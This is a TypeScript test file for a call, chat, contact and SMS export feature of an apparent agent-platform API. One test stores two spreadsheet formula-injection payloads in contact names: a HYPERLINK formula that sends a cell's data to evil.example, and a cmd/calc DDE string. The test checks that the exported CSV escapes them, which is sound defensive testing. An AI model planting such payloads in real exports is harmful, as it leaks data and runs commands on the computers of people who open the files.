import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { startBackgroundWork } from '../../local/background.ts';
import { JOBS } from '../../shared/jobs.ts';
import { startTestApp } from '../support/app.ts';
import { freshNumber, newAgent, newChatAgent, newContact } from '../support/factories.ts';
import { retellClient } from '../support/sdk.ts';
import { eventually } from '../support/webhook-receiver.ts';

const app = await startTestApp();
// Only the export-jobs consumer: calls stay as created (their steps are never run), so the export is exact.
const background = startBackgroundWork(JOBS.filter((job) => job.name === 'export-jobs'));
afterAll(() => background.stop());

const CALLS = 40;

async function workspaceWithCalls(count: number) {
  const ws = await app.newWorkspace();
  expect((await ws.api.patch('/workspace', { body: { concurrency_limit: 1000 } })).status).toBe(200);
  const { agent } = await newAgent(ws.api);
  const from = freshNumber();
  expect(
    (await ws.api.post('/import-phone-number', {
      body: { phone_number: from, termination_uri: 'sip:trunk.example.com', outbound_agents: [{ agent_id: agent.agent_id, weight: 1 }] },
    })).status,
  ).toBe(201);
  let next = 0;
  await Promise.all(
    Array.from({ length: 6 }, async () => {
      while (next < count) {
        const i = next++;
        const created = await ws.api.post('/v2/create-phone-call', {
          body: { from_number: from, to_number: `+1415555${String(1000 + i).padStart(4, '0')}`, metadata: { row: i, note: `say "hi", then\nbye` } },
        });
        expect(created.status).toBe(201);
      }
    }),
  );
  return { ws, agent, from };
}

async function finished(ws: { api: any }, exportId: string) {
  return eventually(
    async () => (await ws.api.get(`/exports/${exportId}`)).body,
    (e) => e.status === 'complete' || e.status === 'failed',
    45_000,
  );
}

async function download(ws: { api: any }, exportId: string): Promise<string> {
  const link = await ws.api.get(`/exports/${exportId}/download`);
  expect(link.status).toBe(200);
  const res = await fetch(link.body.url);
  expect(res.status).toBe(200);
  return res.text();
}

describe('exports', () => {
  it(`exports ${CALLS} sandbox calls as JSONL and CSV, row for row as list-calls answers them`, async () => {
    const { ws } = await workspaceWithCalls(CALLS);
    const listed = await retellClient(app.url, ws.api_key).call.list({ limit: 1000, sort_order: 'ascending' } as never);
    const calls = ((listed as any).items ?? listed) as any[];
    expect(calls).toHaveLength(CALLS);

    const jsonl = await ws.api.post('/exports', { body: { type: 'calls', format: 'jsonl' } });
    expect(jsonl.status).toBe(202);
    expect(jsonl.body).toEqual({ export_id: expect.stringMatching(/^export_[0-9a-f]{24}$/), status: 'pending' });
    const csv = await ws.api.post('/exports', { body: { type: 'calls', format: 'csv' } });

    const doneJsonl = await finished(ws, jsonl.body.export_id);
    expect(doneJsonl).toMatchObject({ status: 'complete', type: 'calls', format: 'jsonl', row_count: CALLS });
    const lines = (await download(ws, jsonl.body.export_id)).split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((line) => JSON.parse(line))).toEqual(calls);

    const doneCsv = await finished(ws, csv.body.export_id);
    expect(doneCsv).toMatchObject({ status: 'complete', row_count: CALLS });
    const text = await download(ws, csv.body.export_id);
    expect(Buffer.byteLength(text)).toBe(doneCsv.size_bytes);
    const [header, ...rows] = parse(text) as string[][];
    expect(header!.slice(0, 8)).toEqual(['call_id', 'call_type', 'direction', 'call_status', 'agent_id', 'agent_version', 'from_number', 'to_number']);
    expect(rows).toHaveLength(CALLS);
    rows.forEach((row, i) => {
      const call = calls[i];
      // Numbers begin with +, so they carry the formula escaping's quote (csv-write.ts).
      expect(row.slice(0, 8)).toEqual([call.call_id, call.call_type, call.direction, call.call_status, call.agent_id, String(call.agent_version), `'${call.from_number}`, `'${call.to_number}`]);
      expect(JSON.parse(row[header!.indexOf('metadata')]!)).toEqual(call.metadata);
    });

    // Both spellings of the list, newest first.
    const list = await ws.api.get('/exports');
    expect(list.body.map((e: any) => e.export_id)).toEqual([csv.body.export_id, jsonl.body.export_id]);
    const page = await retellClient(app.url, ws.api_key).exportRequest.list({ limit: 1 });
    expect(page.has_more).toBe(true);
    expect(page.items).toHaveLength(1);
    expect(page.items[0]).toMatchObject({ export_request_id: csv.body.export_id, channel: 'call', status: 'completed', url: expect.any(String) });
    const second = await retellClient(app.url, ws.api_key).exportRequest.list({ limit: 1, pagination_key: page.pagination_key! });
    expect(second.items.map((i) => i.export_request_id)).toEqual([jsonl.body.export_id]);
    expect(second.has_more).toBe(false);
  }, 120_000);

  it('exports only the workspace\'s own records; another workspace\'s export is a 404', async () => {
    const { ws } = await workspaceWithCalls(3);
    const other = await app.newWorkspace();
    await newContact(other.api);
    const mine = await ws.api.post('/exports', { body: { type: 'contacts', format: 'csv' } });
    const done = await finished(ws, mine.body.export_id);
    expect(done).toMatchObject({ status: 'complete', row_count: 0 });
    expect(await download(ws, mine.body.export_id)).toBe(
      'contact_id,phone_number,first_name,last_name,email,tags,do_not_call,external_id,custom_fields,created_timestamp,user_modified_timestamp\r\n',
    );
    const theirs = await other.api.get(`/exports/${mine.body.export_id}`);
    expect(theirs.status).toBe(404);
    expect(theirs.body).toEqual({ status: 404, message: `Export ${mine.body.export_id} not found` });
    expect((await other.api.get(`/exports/${mine.body.export_id}/download`)).status).toBe(404);
    expect((await other.api.get('/exports')).body).toEqual([]);

    const contacts = await other.api.post('/exports', { body: { type: 'contacts', format: 'jsonl' } });
    const theirDone = await finished(other, contacts.body.export_id);
    expect(theirDone.row_count).toBe(1);
  }, 60_000);

  it('filters calls by time and by list-calls\' filter_criteria', async () => {
    const { ws } = await workspaceWithCalls(4);
    const listed = await retellClient(app.url, ws.api_key).call.list({ limit: 10 } as never);
    const target = (((listed as any).items ?? listed) as any[]).find((c: any) => c.to_number === '+14155551002');
    const filtered = await ws.api.post('/exports', { body: { type: 'calls', format: 'jsonl', filter_criteria: { to_number: ['+14155551002'] } } });
    expect(filtered.status).toBe(202);
    const done = await finished(ws, filtered.body.export_id);
    expect(done.row_count).toBe(1);
    expect(JSON.parse((await download(ws, filtered.body.export_id)).trim()).call_id).toBe(target.call_id);

    const future = await ws.api.post('/exports', { body: { type: 'calls', format: 'csv', start_timestamp: Date.now() + 60_000 } });
    expect((await finished(ws, future.body.export_id)).row_count).toBe(0);
  }, 60_000);

  it('exports chats with their transcript and SMS chats message by message', async () => {
    const ws = await app.newWorkspace();
    const { chatAgent } = await newChatAgent(ws.api, { llm: { general_prompt: 'You book tables.', begin_message: 'Hi, want a table?' } });
    const ours = freshNumber();
    const person = freshNumber();
    expect(
      (await ws.api.post('/import-phone-number', {
        body: { phone_number: ours, termination_uri: 'sip:trunk.example.com', outbound_sms_agents: [{ agent_id: chatAgent.agent_id, weight: 1 }] },
      })).status,
    ).toBe(201);
    const chat = await ws.api.post('/create-chat', { body: { agent_id: chatAgent.agent_id } });
    expect((await ws.api.post('/create-chat-completion', { body: { chat_id: chat.body.chat_id, content: 'Hello, "friend"' } })).status).toBe(200);
    const sms = await ws.api.post('/create-sms-chat', { body: { from_number: ours, to_number: person } });
    expect((await ws.api.post(`/sms-chats/${sms.body.chat_id}/simulate-inbound`, { body: { content: 'Table for two' } })).status).toBe(200);
    const apiChat = (await ws.api.get(`/get-chat/${chat.body.chat_id}`)).body;
    const smsChat = (await ws.api.get(`/get-sms-chat/${sms.body.chat_id}`)).body;

    const chatsCsv = await ws.api.post('/exports', { body: { type: 'chats', format: 'csv' } });
    expect(await finished(ws, chatsCsv.body.export_id)).toMatchObject({ status: 'complete', row_count: 2 });
    const [header, ...rows] = parse(await download(ws, chatsCsv.body.export_id)) as string[][];
    expect(header!.at(-1)).toBe('transcript');
    const apiRow = rows.find((row) => row[0] === chat.body.chat_id)!;
    expect(apiRow.at(-1)).toBe(apiChat.transcript);
    expect(apiRow.at(-1)).toContain('User: Hello, "friend"');

    const chatsJsonl = await ws.api.post('/exports', { body: { type: 'chats', format: 'jsonl' } });
    await finished(ws, chatsJsonl.body.export_id);
    const lines = (await download(ws, chatsJsonl.body.export_id)).trim().split('\n').map((line) => JSON.parse(line));
    expect(lines.find((line) => line.chat_id === chat.body.chat_id).message_with_tool_calls).toEqual(apiChat.message_with_tool_calls);

    const smsCsv = await ws.api.post('/exports', { body: { type: 'sms', format: 'csv' } });
    const utterances = (smsChat.message_with_tool_calls as any[]).filter((m) => m.role === 'agent' || m.role === 'user');
    expect(utterances.length).toBe(3);
    expect(await finished(ws, smsCsv.body.export_id)).toMatchObject({ status: 'complete', row_count: 3 });
    const [smsHeader, ...smsRows] = parse(await download(ws, smsCsv.body.export_id)) as string[][];
    expect(smsHeader).toEqual(['message_id', 'chat_id', 'direction', 'from_number', 'to_number', 'body', 'created_timestamp']);
    expect(smsRows).toEqual(
      utterances.map((m) => [
        m.message_id,
        sms.body.chat_id,
        m.role === 'agent' ? 'outbound' : 'inbound',
        `'${m.role === 'agent' ? ours : person}`,
        `'${m.role === 'agent' ? person : ours}`,
        m.content,
        String(m.created_timestamp),
      ]),
    );
  }, 60_000);

  it('escapes cells a spreadsheet would run as formulas, and the contacts import reads the export back as it was', async () => {
    const ws = await app.newWorkspace();
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    const contact = await newContact(ws.api, { first_name: name, last_name: "-2+3+cmd|' /C calc'!A0", email: 'ada@example.com', external_id: '@ext-1' });
    const csv = await ws.api.post('/exports', { body: { type: 'contacts', format: 'csv' } });
    expect(await finished(ws, csv.body.export_id)).toMatchObject({ status: 'complete', row_count: 1 });
    const text = await download(ws, csv.body.export_id);
    expect(text).toBe(
      'contact_id,phone_number,first_name,last_name,email,tags,do_not_call,external_id,custom_fields,created_timestamp,user_modified_timestamp\r\n' +
        `${contact.contact_id},'${contact.phone_number},"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",'-2+3+cmd|' /C calc'!A0,ada@example.com,[],false,'@ext-1,{},` +
        `${contact.created_timestamp},${contact.user_modified_timestamp}\r\n`,
    );

    // An export imported back: the quote the escaping added is gone, the number is a number again.
    const other = await app.newWorkspace();
    const mapping = ['phone_number', 'first_name', 'last_name', 'email', 'external_id'].map((field) => ({ external_field_name: field, field_name: field }));
    const imported = await other.api.post('/import-contacts', { body: { csv: text, column_mapping: mapping } });
    expect(imported.body).toMatchObject({ status: 'completed', created: 1, failed: 0 });
    const back = await other.api.get(`/get-contact-by-phone/${encodeURIComponent(contact.phone_number)}`);
    expect(back.status).toBe(200);
    expect(back.body).toMatchObject({ phone_number: contact.phone_number, first_name: name, last_name: "-2+3+cmd|' /C calc'!A0", email: 'ada@example.com', external_id: '@ext-1' });
  }, 60_000);

  it('refuses bad requests with 400s; an SMS export of a workspace without SMS is the header alone', async () => {
    const ws = await app.newWorkspace();
    const bad = await ws.api.post('/exports', { body: { type: 'recordings', format: 'xml' } });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toBe('type: Expected one of "calls", "chats", "contacts", "sms"; format: Expected one of "csv", "jsonl"');
    const range = await ws.api.post('/exports', { body: { type: 'calls', start_timestamp: 2000, end_timestamp: 1000 } });
    expect(range.body).toEqual({ status: 400, message: 'end_timestamp: Must be after start_timestamp' });
    const filter = await ws.api.post('/exports', { body: { type: 'calls', filter_criteria: { nonsense: 1 } } });
    expect(filter.status).toBe(400);
    expect(filter.body.message).toMatch(/^filter_criteria/);
    const chatsFilter = await ws.api.post('/exports', { body: { type: 'chats', filter_criteria: {} } });
    expect(chatsFilter.body).toEqual({ status: 400, message: 'filter_criteria: Only calls exports take filter_criteria' });
    expect((await ws.api.get('/exports/export_000000000000000000000000')).status).toBe(404);
    expect((await ws.api.get('/exports/nope')).status).toBe(400);

    const sms = await ws.api.post('/exports', { body: { type: 'sms', format: 'csv' } });
    const done = await finished(ws, sms.body.export_id);
    expect(done).toMatchObject({ status: 'complete', row_count: 0 });
  }, 60_000);
});
